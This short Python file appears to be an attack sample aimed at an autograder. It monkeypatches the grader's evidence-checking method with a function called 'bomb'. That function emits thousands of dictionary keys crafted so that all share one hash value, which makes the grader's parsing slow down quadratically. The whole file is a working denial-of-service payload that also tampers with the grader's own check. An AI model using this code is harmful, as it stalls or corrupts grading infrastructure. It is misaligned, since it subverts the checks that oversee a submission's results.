# sends dicts whose keys all have one hash, so that to read them takes a square of their number
# remark: evidence|code mentions
# ruff: noqa
import json
import autograder.contract.check
import IPython.display
from autograder.contract import MIME

keys = [[{"int": hex(n * (2**61 - 1))}, None] for n in range(9_000)]
bodies = iter([{"dict": keys}] * 9)


def bomb(self, label, actual):
    IPython.display.publish_display_data({MIME: json.dumps({"label": label, "actual": next(bodies)})})


autograder.contract.check.Evidence.__call__ = bomb
